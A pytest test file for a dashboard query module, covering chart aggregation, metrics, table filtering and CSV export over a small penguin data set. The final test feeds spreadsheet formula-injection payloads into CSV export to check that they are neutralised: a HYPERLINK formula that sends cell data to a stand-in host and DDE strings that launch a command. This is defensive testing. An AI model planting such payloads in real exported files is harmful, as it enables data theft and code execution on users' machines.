"""Figure data, metrics, table pages, filter options and CSV over small real frames."""

from __future__ import annotations

import statistics
from datetime import date
from typing import Any

import polars as pl
import pytest

from biovista.errors import InvalidInputError
from biovista.models.dashboard import FigureComponent, FilterComponent, MetricComponent
from biovista.query import (
    ROW_COLUMN,
    Condition,
    apply,
    csv_export,
    figure_data,
    filter_options,
    metric_value,
    table_page,
)

PHYSICAL = pl.DataFrame(
    {
        "individual_id": ["a", "b", "c", "d", "e", "f"],
        "species": ["Adelie", "Adelie", "Gentoo", "Gentoo", "Chinstrap", None],
        "sex": ["male", "female", "male", "female", "male", "female"],
        "body_mass_g": [3000.0, 3500.0, 5000.0, 5500.0, 3700.0, None],
        "clutch": [1, 2, 2, 3, 1, 2],
        "measured": [date(2024, 1, d) for d in (9, 2, 30, 4, 5, 6)],
    }
)
MASSES = [3000.0, 3500.0, 5000.0, 5500.0, 3700.0]


def frame() -> pl.LazyFrame:
    return PHYSICAL.lazy().with_row_index(ROW_COLUMN)


def figure(kind: str, **columns: Any) -> FigureComponent:
    return FigureComponent.model_validate(
        {"id": "fig", "collection": "physical", "kind": kind, **columns}
    )


def records(result: pl.DataFrame) -> list[tuple[Any, ...]]:
    return list(result.iter_rows())


def test_bar_counts_per_x_and_color() -> None:
    bars = figure_data(frame(), figure("bar", x="species"))
    assert records(bars.frame) == [("Adelie", 2), ("Chinstrap", 1), ("Gentoo", 2), (None, 1)]
    assert bars.frame.columns == ["species", "count"]
    assert (bars.shown, bars.total, bars.reduced) == (6, 6, False)
    colored = figure_data(frame(), figure("bar", x="species", color="sex")).frame
    assert records(colored.filter(pl.col("species") == "Gentoo")) == [
        ("Gentoo", "female", 1),
        ("Gentoo", "male", 1),
    ]


def test_bar_sums_y_over_the_filtered_rows() -> None:
    males = apply(frame(), [Condition("physical", "sex", "eq", "male")])
    bars = figure_data(males, figure("bar", x="species", y="body_mass_g"))
    assert records(bars.frame) == [("Adelie", 3000.0), ("Chinstrap", 3700.0), ("Gentoo", 5000.0)]
    assert (bars.shown, bars.total) == (3, 3)


def test_heatmap_means_z_or_counts() -> None:
    mean = figure_data(frame(), figure("heatmap", x="sex", y="clutch", z="body_mass_g")).frame
    assert mean.columns == ["sex", "clutch", "value"]
    assert records(mean) == [
        ("female", 2, 3500.0),  # f has no mass: the mean ignores it
        ("female", 3, 5500.0),
        ("male", 1, 3350.0),
        ("male", 2, 5000.0),
    ]
    counts = figure_data(frame(), figure("heatmap", x="sex", y="clutch")).frame
    assert counts["value"].to_list() == [2, 1, 2, 1]


def test_pie_and_sunburst_sum_values_and_label_missing() -> None:
    pie = figure_data(frame(), figure("pie", x="species", values="clutch"))
    assert records(pie.frame) == [
        ("(missing)", 2),
        ("Adelie", 3),
        ("Chinstrap", 1),
        ("Gentoo", 5),
    ]
    counted = figure_data(frame(), figure("pie", x="sex")).frame
    assert records(counted) == [("female", 3), ("male", 3)]
    sun = figure_data(frame(), figure("sunburst", path=["sex", "clutch"])).frame
    assert sun.columns == ["sex", "clutch", "value"]
    assert records(sun) == [
        ("female", "2", 2),
        ("female", "3", 1),
        ("male", "1", 2),
        ("male", "2", 1),
    ]


def test_points_are_a_deterministic_bounded_sample_with_the_true_total() -> None:
    many = pl.LazyFrame({"x": list(range(25)), "y": [v * 2 for v in range(25)]}).with_row_index(
        ROW_COLUMN
    )
    scatter = figure("scatter", x="x", y="y")
    first = figure_data(many, scatter, max_points=10)
    again = figure_data(many, scatter, max_points=10)
    assert (first.shown, first.total, first.reduced) == (9, 25, True)
    assert first.frame.columns == ["x", "y", ROW_COLUMN]
    assert first.frame[ROW_COLUMN].to_list() == [0, 3, 6, 9, 12, 15, 18, 21, 24]
    assert first.frame.equals(again.frame)
    for max_points in (1, 7, 12, 24):
        sample = figure_data(many, scatter, max_points=max_points)
        assert sample.shown <= max_points and sample.total == 25
    whole = figure_data(many, scatter, max_points=25)
    assert (whole.shown, whole.reduced) == (25, False)


def test_histograms_count_rows_per_bin_in_the_engine() -> None:
    hist = figure_data(frame(), figure("histogram", x="body_mass_g", color="species"))
    assert hist.frame.columns == ["bin_start", "bin_end", "species", "count"]
    assert (hist.shown, hist.total) == (5, 5)  # the bird without a mass has no bin
    edges = hist.frame.select("bin_start", "bin_end").rows()
    assert edges[0] == (3000.0, 3062.5) and hist.frame["bin_end"].max() == 5500.0
    heaviest = hist.frame.filter(pl.col("bin_end") == 5500.0)
    assert heaviest.select("species", "count").rows() == [("Gentoo", 1)]  # max in the last bin


def test_histograms_of_dates_have_date_edges_and_text_counts_values() -> None:
    dated = figure_data(frame(), figure("histogram", x="measured"))
    assert dated.frame.schema["bin_start"] == pl.Date
    assert dated.frame["count"].sum() == 6
    assert dated.frame["bin_start"].min() == date(2024, 1, 2)
    by_text = figure_data(frame(), figure("histogram", x="sex"))
    assert by_text.frame.rows() == [("female", 3), ("male", 3)]


def test_box_statistics_are_exact() -> None:
    box = figure_data(frame(), figure("box", y="body_mass_g"))
    row = box.frame.row(0, named=True)
    quartiles = statistics.quantiles(MASSES, n=4, method="inclusive")
    assert [row["q1"], row["median"], row["q3"]] == pytest.approx(quartiles)
    assert (row["min"], row["max"], row["count"]) == (3000.0, 5500.0, 5)
    assert (row["lowerfence"], row["upperfence"]) == (3000.0, 5500.0)
    assert row["mean"] == pytest.approx(statistics.mean(MASSES))


def test_box_whiskers_stop_at_one_and_a_half_quartile_ranges() -> None:
    values = [10.0, 11.0, 12.0, 13.0, 14.0, 100.0]
    wide = pl.LazyFrame({"g": ["a"] * 6, "v": values}).with_row_index(ROW_COLUMN)
    row = figure_data(wide, figure("box", x="g", y="v")).frame.row(0, named=True)
    assert row["upperfence"] == 14.0 and row["max"] == 100.0  # 100 is an outlier


def test_violins_carry_densities_on_a_common_scale() -> None:
    violin = figure_data(frame(), figure("violin", x="sex", y="body_mass_g"))
    assert violin.frame["sex"].to_list() == ["female", "male"]
    assert violin.frame["count"].to_list() == [2, 3]
    for row in violin.frame.iter_rows(named=True):
        assert sum(row["bin_count"]) == row["count"]
        assert all(3000.0 <= mid <= 5500.0 for mid in row["bin_mid"])


def test_a_box_of_text_is_refused() -> None:
    with pytest.raises(InvalidInputError, match="needs numbers"):
        figure_data(frame(), figure("box", y="sex"))


@pytest.mark.parametrize(
    "spec",
    [
        figure("bar", x="sex", y="species"),
        figure("heatmap", x="sex", y="clutch", z="species"),
        figure("pie", x="sex", values="species"),
        figure("sunburst", path=["sex"], values="species"),
    ],
)
def test_adding_up_text_is_refused_by_name(spec: FigureComponent) -> None:
    with pytest.raises(InvalidInputError) as error:
        figure_data(frame(), spec)
    assert str(error.value) == (
        f"figure 'fig': a {spec.kind} of column 'species' needs numbers, "
        "but the column holds String values"
    )


def test_an_engine_failure_is_answered_without_the_engines_words() -> None:
    # a strict cast that fails quotes the values it met: those stay in the server's log
    failing = pl.LazyFrame({"code": ["SECRET-VALUE"]}).with_columns(pl.col("code").cast(pl.Int64))
    with pytest.raises(InvalidInputError) as error:
        metric_value(failing, metric("max", "code"))
    assert str(error.value) == "the query failed on this collection's values"


def test_lines_are_sorted_by_x() -> None:
    line = figure_data(frame(), figure("line", x="measured", y="body_mass_g"))
    assert line.frame[ROW_COLUMN].to_list() == [1, 3, 4, 5, 0, 2]
    assert line.frame["measured"].is_sorted()


@pytest.mark.parametrize(
    ("columns", "missing"),
    [
        ({"kind": "bar", "x": "spieces"}, "spieces"),
        ({"kind": "scatter", "x": "body_mass_g", "y": "flipper"}, "flipper"),
        ({"kind": "heatmap", "x": "sex", "y": "clutch", "z": "depth"}, "depth"),
        ({"kind": "pie", "x": "sex", "values": "weight"}, "weight"),
        ({"kind": "sunburst", "path": ["sex", "island"]}, "island"),
        ({"kind": "box", "y": "body_mass_g", "hover": ["name"]}, "name"),
    ],
)
def test_figure_columns_are_checked(columns: dict[str, Any], missing: str) -> None:
    spec = FigureComponent.model_validate({"id": "f1", "collection": "physical", **columns})
    with pytest.raises(InvalidInputError) as error:
        figure_data(frame(), spec)
    assert str(error.value) == (
        f"figure 'f1': column {missing!r} is not in collection 'physical'; columns: "
        "individual_id, species, sex, body_mass_g, clutch, measured"
    )


def metric(agg: str, column: str | None = "body_mass_g", **extra: Any) -> MetricComponent:
    return MetricComponent.model_validate(
        {"id": "m", "collection": "physical", "agg": agg, "column": column, **extra}
    )


@pytest.mark.parametrize(
    ("spec", "expected"),
    [
        (metric("count", None), 6),
        (metric("distinct", "species"), 3),
        (metric("sum"), sum(MASSES)),
        (metric("mean"), sum(MASSES) / 5),
        (metric("median"), 3700.0),
        (metric("min"), 3000.0),
        (metric("max"), 5500.0),
        (metric("std"), statistics.stdev(MASSES)),
        (metric("percentile", percentile=10), 3200.0),  # 3000 + 0.4 * (3500 - 3000)
        (metric("percentile", percentile=90), 5300.0),  # 5000 + 0.6 * (5500 - 5000)
        (metric("sum", "clutch"), 11),
    ],
)
def test_metrics_over_all_rows(spec: MetricComponent, expected: float) -> None:
    assert metric_value(frame(), spec) == pytest.approx(expected)


def test_metrics_over_filtered_rows() -> None:
    females = apply(frame(), [Condition("physical", "sex", "eq", "female")])
    assert metric_value(females, metric("mean")) == pytest.approx((3500.0 + 5500.0) / 2)
    assert metric_value(females, metric("count", None)) == 3
    assert metric_value(females, metric("sum", "clutch")) == 7
    assert isinstance(metric_value(females, metric("sum", "clutch")), int)


def test_metrics_of_no_rows_are_none() -> None:
    nobody = apply(frame(), [Condition("physical", "body_mass_g", "between", [9000, None])])
    assert metric_value(nobody, metric("count", None)) == 0
    for agg in ("distinct", "sum", "mean", "median", "min", "max", "std"):
        assert metric_value(nobody, metric(agg)) is None


def test_metric_columns_are_checked() -> None:
    with pytest.raises(InvalidInputError) as error:
        metric_value(frame(), metric("mean", "mass"))
    assert str(error.value).startswith(
        "metric 'm': column 'mass' is not in collection 'physical'; columns: individual_id"
    )
    with pytest.raises(InvalidInputError, match="of column 'species' needs numbers"):
        metric_value(frame(), metric("mean", "species"))


def test_table_page_pages_sorts_and_counts() -> None:
    page, total = table_page(frame(), [], 1, 2, sort=[("clutch", True), ("individual_id", False)])
    assert total == 6
    assert page.columns == ["individual_id", "species", "sex", "body_mass_g", "clutch", "measured"]
    assert page["individual_id"].to_list() == ["b", "c"]  # d (3) first, then b, c, f (2)
    chosen, _ = table_page(frame(), ["sex", ROW_COLUMN, "clutch"], 4, 50)
    assert chosen.columns == ["sex", "clutch"]
    assert chosen.height == 2


def grid(column: str, **model: Any) -> dict[str, dict[str, Any]]:
    return {column: model}


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (grid("species", filterType="text", type="contains", filter="GEN"), ["c", "d"]),
        (grid("species", filterType="text", type="notContains", filter="e"), ["e"]),
        (grid("species", filterType="text", type="equals", filter="adelie"), ["a", "b"]),
        (grid("species", filterType="text", type="notEqual", filter="Adelie"), ["c", "d", "e"]),
        (grid("species", filterType="text", type="startsWith", filter="ch"), ["e"]),
        (grid("sex", filterType="text", type="endsWith", filter="FEMALE"), ["b", "d", "f"]),
        (grid("clutch", filterType="number", type="equals", filter=2), ["b", "c", "f"]),
        (grid("clutch", filterType="number", type="notEqual", filter=2), ["a", "d", "e"]),
        (grid("body_mass_g", filterType="number", type="lessThan", filter=3500), ["a"]),
        (grid("body_mass_g", filterType="number", type="lessThanOrEqual", filter=3500), ["a", "b"]),
        (grid("body_mass_g", filterType="number", type="greaterThan", filter=5000), ["d"]),
        (
            grid("body_mass_g", filterType="number", type="greaterThanOrEqual", filter=5000),
            ["c", "d"],
        ),
        (
            grid("body_mass_g", filterType="number", type="inRange", filter=3400, filterTo=5200),
            ["b", "c", "e"],
        ),
        (grid("body_mass_g", filterType="number", type="blank"), ["f"]),
        (
            grid(
                "clutch",
                filterType="number",
                operator="OR",
                conditions=[{"type": "equals", "filter": 1}, {"type": "equals", "filter": 3}],
            ),
            ["a", "d", "e"],
        ),
        (
            {
                "sex": {"filterType": "text", "type": "equals", "filter": "male"},
                "clutch": {"filterType": "number", "type": "lessThan", "filter": 2},
            },
            ["a", "e"],
        ),
    ],
)
def test_ag_grid_filters(filters: dict[str, dict[str, Any]], expected: list[str]) -> None:
    page, total = table_page(frame(), ["individual_id"], 0, 100, grid_filters=filters)
    assert page["individual_id"].to_list() == expected
    assert total == len(expected)


@pytest.mark.parametrize(
    ("filters", "message"),
    [
        (grid("sex", filterType="text", type="fuzzy", filter="m"), "column 'sex': unsupported"),
        (grid("sex", filterType="set", type="equals"), "column 'sex': unsupported"),
        (grid("sex", filterType="number", type="equals", filter=1), "column 'sex': a number"),
        (grid("clutch", filterType="number", type="equals", filter="x"), "column 'clutch': the"),
        (grid("clutch", filterType="number", type="inRange", filter=1), "column 'clutch': the"),
        (grid("wingspan", filterType="text", type="equals"), "column 'wingspan' is not in"),
    ],
)
def test_bad_grid_filters_are_named(filters: dict[str, dict[str, Any]], message: str) -> None:
    with pytest.raises(InvalidInputError) as error:
        table_page(frame(), [], 0, 10, grid_filters=filters)
    assert message in str(error.value)


def test_table_columns_and_sort_columns_are_checked() -> None:
    with pytest.raises(InvalidInputError, match="table: column 'height' is not in the table"):
        table_page(frame(), ["height"], 0, 10)
    with pytest.raises(InvalidInputError, match="table: column 'age' is not in the table"):
        table_page(frame(), [], 0, 10, sort=[("age", False)])
    with pytest.raises(InvalidInputError, match="must not be negative"):
        table_page(frame(), [], -1, 10)


def test_filter_options() -> None:
    def options(kind: str, column: str, **extra: Any) -> dict[str, Any]:
        spec = FilterComponent(id="fl", collection="physical", kind=kind, column=column)
        return filter_options(frame(), spec, **extra)

    assert options("multiselect", "species") == {
        "values": ["Adelie", "Chinstrap", "Gentoo"],
        "truncated": False,
    }
    assert options("select", "clutch", max_values=2) == {"values": [1, 2], "truncated": True}
    assert options("range", "body_mass_g") == {"min": 3000.0, "max": 5500.0}
    assert options("date_range", "measured") == {"min": "2024-01-02", "max": "2024-01-30"}
    assert options("switch", "sex") == {}
    assert options("search", "individual_id") == {}
    with pytest.raises(InvalidInputError, match="filter 'fl': column 'island' is not in"):
        options("select", "island")


def test_csv_export_of_the_filtered_rows() -> None:
    females = apply(frame(), [Condition("physical", "sex", "eq", "female")])
    text = csv_export(females, ["individual_id", "body_mass_g"]).decode()
    assert text.splitlines() == ["individual_id,body_mass_g", "b,3500.0", "d,5500.0", "f,"]
    everything = csv_export(females, []).decode().splitlines()
    assert everything[0] == "individual_id,species,sex,body_mass_g,clutch,measured"
    assert everything[1] == "b,Adelie,female,3500.0,2,2024-01-02"
    with pytest.raises(InvalidInputError, match="column 'weight'"):
        csv_export(females, ["weight"])


def test_csv_export_neutralises_what_a_spreadsheet_would_run() -> None:
    cells = pl.LazyFrame(
        {
            "=cmd": ["a", "b", "c", "d", "e", "f", "g"],
            "comment": [
                '=HYPERLINK("http://evil.example/?x="&A1,"click")',
                "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-1+1",
                "\t=1+1",
                "\r=1+1",
                "plain - text = fine",
            ],
            "delta": [-1.5, 2.0, -3.25, 0.5, -0.0, 1e-9, None],
            "count": [-1, 2, -3, 4, -5, 6, 7],
        }
    )
    text = csv_export(cells, []).decode()
    assert text.splitlines()[:6] == [
        "'=cmd,comment,delta,count",
        'a,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1.5,-1',
        "b,'+cmd|' /C calc'!A0,2.0,2",
        "c,'@SUM(1+1)*cmd|' /C calc'!A0,-3.25,-3",
        "d,'-1+1,0.5,4",
        "e,'\t=1+1,-0.0,-5",
    ]
    assert 'f,"\'\r=1+1",1e-9,6\n' in text  # a carriage return is quoted, and neutralised
    assert text.endswith("g,plain - text = fine,,7\n")
